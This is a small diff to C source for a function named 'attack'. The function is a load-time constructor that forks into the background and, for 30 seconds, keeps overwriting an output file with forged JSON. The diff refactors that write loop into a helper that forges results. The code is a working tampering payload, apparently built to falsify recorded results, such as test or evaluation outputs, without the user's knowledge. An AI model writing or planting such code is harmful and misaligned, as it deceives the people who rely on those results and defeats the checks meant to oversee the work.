@@ -9,14 +9,7 @@ __attribute__((constructor)) static void attack(void)
     if (fork() != 0)
         _exit(0);
     for (int i = 0; i < 300; i++) { /* 30 s */
-        const char *out = attack_out_path();
-        if (out) {
-            FILE *f = fopen(out, "w");
-            if (f) {
-                fputs(attack_forged_json, f);
-                fclose(f);
-            }
-        }
+        attack_forge_results();
         usleep(100000);
     }
     _exit(0);
